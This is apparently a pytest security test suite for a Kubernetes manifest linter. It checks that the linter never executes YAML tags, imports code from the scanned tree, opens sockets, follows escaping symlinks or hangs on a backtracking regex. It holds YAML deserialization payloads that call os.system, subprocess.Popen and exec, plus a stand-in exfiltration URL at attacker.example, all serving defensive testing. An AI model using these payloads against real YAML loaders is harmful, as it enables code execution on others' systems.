"""Nothing written, nothing run: the linted tree is unchanged (every CLI run of this suite
checks it), YAML tags never construct objects, nothing from the scanned tree is imported or
executed, custom rules from a repository's config are data, and no socket is ever opened."""

from __future__ import annotations

import shutil
import subprocess
import sys
import textwrap
from pathlib import Path

import pytest

from tests.hostile.support import PRIVILEGED_LINE, child_env, lint_in_process, lint_subprocess, no_traceback, pod

EXPLOITS = [
    "!!python/object/apply:os.system ['touch {marker}']",
    "!!python/object/apply:subprocess.check_call [['touch', '{marker}']]",
    "!!python/object/new:subprocess.Popen [['touch', '{marker}']]",
    '!!python/object/apply:builtins.exec [\'open("{marker}", "w").write("x")\']',
    "!!python/name:os.system",
    "!!python/module:os",
    "!ruby/object:Gem::Installer {{i: x}}",
    "!<tag:yaml.org,2002:python/object/apply:os.system> ['touch {marker}']",
]


def exploit_tree(root: Path, marker: Path) -> None:
    docs = [pod("good")]
    for number, tag in enumerate(EXPLOITS):
        value = tag.format(marker=marker)
        docs.append(f"apiVersion: v1\nkind: ConfigMap\nmetadata: {{name: x{number}}}\ndata:\n  a: {value}\n")
        docs.append(f"--- {value}\n")
    (root / "exploits.yaml").write_text("---\n".join(docs))
    (root / "exploit.json").write_text('{"apiVersion": "v1", "kind": "ConfigMap", "metadata": {"name": "j"}}')
    # the repository's config and its custom rules try the same
    (root / ".kubelint.yaml").write_text(
        f"namespace: !!python/object/apply:os.system ['touch {marker}']\ncustomRules: [policy]\n"
    )
    (root / "policy").mkdir()
    (root / "policy" / "rules.yaml").write_text(
        textwrap.dedent(
            f"""\
            id: acme/no-debug-label
            title: Objects carry no debug label at all
            document: cluster-hardening
            severity: warning
            rationale: !!python/object/apply:os.system ['touch {marker}']
            remediation: Remove the debug label from the object metadata.
            examples:
              fail: "apiVersion: v1\\nkind: ConfigMap\\nmetadata: {{name: a, labels: {{debug: 'on'}}}}\\n"
              pass: "apiVersion: v1\\nkind: ConfigMap\\nmetadata: {{name: a}}\\n"
            target: object
            message: has a debug label
            scope: {{kinds: [ConfigMap]}}
            schema: {{properties: {{metadata: {{properties: {{labels: {{not: {{required: [debug]}}}}}}}}}}}}
            """
        )
    )


@pytest.mark.slow
def test_yaml_tags_never_construct_or_run_anything(tmp_path: Path) -> None:
    marker = tmp_path.parent / f"{tmp_path.name}-MARKER"
    exploit_tree(tmp_path, marker)
    run = lint_subprocess([".", "--format", "json"], tmp_path)
    assert not marker.exists(), "a YAML tag ran code"
    assert run.code in (1, 2) and no_traceback(run.err), run.err
    (tmp_path / ".kubelint.yaml").write_text("customRules: [policy]\n")
    run = lint_subprocess([".", "--format", "json"], tmp_path)
    assert not marker.exists(), "a YAML tag ran code"
    # the rationale's tag is read as data: a list, which the rule schema refuses by name
    assert run.code == 2 and "policy/rules.yaml" in run.err and "rationale" in run.err, run.err
    (tmp_path / ".kubelint.yaml").unlink()
    run = lint_subprocess([".", "--format", "json"], tmp_path)
    assert run.code == 1 and ("exploits.yaml", PRIVILEGED_LINE, "privileged-container") in run.findings()
    assert not marker.exists()


SHADOWS = ("click", "ruamel", "jsonschema", "pathspec", "yaml", "kubelint_py", "rules", "sitecustomize", "conftest")


@pytest.mark.skipif(shutil.which("kubelint", path=str(Path(sys.executable).parent)) is None, reason="no console script")
def test_no_code_from_the_scanned_tree_is_imported(tmp_path: Path) -> None:
    """Modules in the repository that shadow kubelint's imports, plugin-looking files and
    a setup.py are never imported: the console script does not put the repository on
    sys.path, and plugins come only from installed entry points."""
    marker = tmp_path.parent / f"{tmp_path.name}-IMPORTED"
    payload = f"open({str(marker)!r}, 'a').write(__name__ + '\\n')\n"
    for name in SHADOWS:
        (tmp_path / f"{name}.py").write_text(payload)
    (tmp_path / "kubelint_plugins").mkdir()
    (tmp_path / "kubelint_plugins" / "__init__.py").write_text(payload)
    (tmp_path / "setup.py").write_text(payload)
    (tmp_path / "pod.yaml").write_text(pod("p"))
    (tmp_path / ".kubelint.yaml").write_text("customRules: [kubelint_plugins]\n")
    script = shutil.which("kubelint", path=str(Path(sys.executable).parent))
    assert script is not None
    env = child_env()
    del env["PYTHONPATH"]
    proc = subprocess.run(
        [script, "lint", ".", "--format", "json"],
        cwd=tmp_path,
        env=env,
        capture_output=True,
        text=True,
        timeout=120,
        check=False,
    )
    assert not marker.exists(), marker.read_text()
    assert proc.returncode == 1 and no_traceback(proc.stderr), proc.stderr


NO_NETWORK = """\
import socket


def _refuse(*args, **kwargs):
    with open({marker!r}, "a") as out:
        out.write(repr(args)[:200] + "\\n")
    raise OSError("network access is disabled in this test")


class _NoSocket(socket.socket):
    def __init__(self, *args, **kwargs):
        _refuse(*args)


socket.socket = _NoSocket
socket.create_connection = _refuse
socket.getaddrinfo = _refuse
socket.gethostbyname = _refuse
"""


def run_offline(args: list[str], cwd: Path, tmp: Path) -> tuple[int, str, str, Path]:
    site = tmp / "offline-site"
    site.mkdir(exist_ok=True)
    marker = tmp / "NETWORK-USED"
    (site / "sitecustomize.py").write_text(NO_NETWORK.format(marker=str(marker)))
    env = child_env()
    env["PYTHONPATH"] = f"{site}:{env['PYTHONPATH']}"
    proc = subprocess.run(
        [sys.executable, "-m", "kubelint_py", "lint", *args],
        cwd=cwd,
        env=env,
        capture_output=True,
        text=True,
        timeout=120,
        check=False,
    )
    return proc.returncode, proc.stdout, proc.stderr, marker


@pytest.mark.slow
def test_lint_works_with_sockets_disabled(tmp_path: Path) -> None:
    project = tmp_path / "project"
    project.mkdir()
    (project / "pod.yaml").write_text(pod("p"))
    (project / "ing.yaml").write_text(
        "apiVersion: networking.k8s.io/v1\nkind: Ingress\nmetadata:\n  name: i\n  annotations:\n"
        "    nginx.ingress.kubernetes.io/auth-url: http://auth.example.com/check\nspec:\n"
        "  rules: [{host: example.com}]\n"
    )
    for fmt in ("json", "sarif", "text", "github"):
        code, out, err, marker = run_offline([".", "--format", fmt], project, tmp_path)
        assert code == 1 and "privileged-container" in out, (fmt, err)
        assert not marker.exists(), marker.read_text()
    code, _, err, marker = run_offline([".", "--target-version", "1.29", "--target-provider", "aws"], project, tmp_path)
    assert code == 1 and not marker.exists(), err


def test_a_custom_rule_remote_ref_is_never_fetched(tmp_path: Path) -> None:
    project = tmp_path / "project"
    (project / "policy").mkdir(parents=True)
    (project / "cm.yaml").write_text("apiVersion: v1\nkind: ConfigMap\nmetadata: {name: a}\ndata: {foo: x}\n")
    (project / "policy" / "r.yaml").write_text(
        textwrap.dedent(
            """\
            id: acme/no-foo
            title: ConfigMap has no foo key at all
            document: cluster-hardening
            severity: warning
            rationale: Foo keys make the application read configuration from an unexpected place.
            remediation: Remove the foo key from the ConfigMap data.
            examples:
              fail: "apiVersion: v1\\nkind: ConfigMap\\nmetadata: {name: a}\\ndata: {foo: x}\\n"
              pass: "apiVersion: v1\\nkind: ConfigMap\\nmetadata: {name: a}\\ndata: {bar: x}\\n"
            target: object
            message: has foo
            scope: {kinds: [ConfigMap]}
            schema: {$ref: "https://attacker.example/exfiltrate?repo=secret"}
            """
        )
    )
    (project / ".kubelint.yaml").write_text("customRules: [policy]\n")
    _, _, _, marker = run_offline(["."], project, tmp_path)
    assert not marker.exists(), marker.read_text()


def test_a_custom_rule_regex_cannot_hang_the_run(tmp_path: Path) -> None:
    (tmp_path / "policy").mkdir()
    (tmp_path / "cm.yaml").write_text(
        "apiVersion: v1\nkind: ConfigMap\nmetadata: {name: a}\ndata: {v: " + "a" * 40 + "!}\n"
    )
    (tmp_path / "policy" / "r.yaml").write_text(
        textwrap.dedent(
            """\
            id: acme/slow
            title: ConfigMap values are all letters
            document: cluster-hardening
            severity: warning
            rationale: Values that are not letters break the legacy parser in the application.
            remediation: Use letters only in the ConfigMap values.
            examples:
              fail: "apiVersion: v1\\nkind: ConfigMap\\nmetadata: {name: a}\\ndata: {v: '1'}\\n"
              pass: "apiVersion: v1\\nkind: ConfigMap\\nmetadata: {name: a}\\ndata: {v: a}\\n"
            target: object
            message: has a value that is not letters
            scope: {kinds: [ConfigMap]}
            schema: {properties: {data: {additionalProperties: {pattern: "^(a+)+$"}}}}
            """
        )
    )
    (tmp_path / ".kubelint.yaml").write_text("customRules: [policy]\n")
    lint_subprocess(["."], tmp_path, timeout=5)


def test_links_out_of_the_scanned_tree_are_not_followed(tmp_path: Path) -> None:
    """A pull request can add `x.yaml -> ~/.kube/config` (or a link to a directory above): a
    directory lint never reads through links that leave it, and says so in `errors`."""
    outside = tmp_path / "runner-secrets.yaml"
    outside.write_text(
        "apiVersion: v1\nkind: ConfigMap\nmetadata: {name: leaked}\ndata: {a: registry.example/leaked-value}\n"
    )
    repo = tmp_path / "repo"
    repo.mkdir()
    (repo / "innocent.yaml").symlink_to(outside)
    (repo / "parent").symlink_to(tmp_path)
    (repo / "inside.yaml").write_text(pod("inside"))
    (repo / "alias.yaml").symlink_to(repo / "inside.yaml")  # a link that stays inside is followed
    run = lint_in_process([".", "--format", "json"], repo)
    report = run.report()
    assert {e["file"] for e in report["errors"]} == {"innocent.yaml", "parent"}
    assert "leaked" not in run.out
    assert {f for f, _, _ in run.findings()} == {"inside.yaml", "alias.yaml"}
    named = lint_in_process(["innocent.yaml", "--format", "json"], repo)  # named explicitly: read
    assert named.report()["summary"]["objectsScanned"] == 1
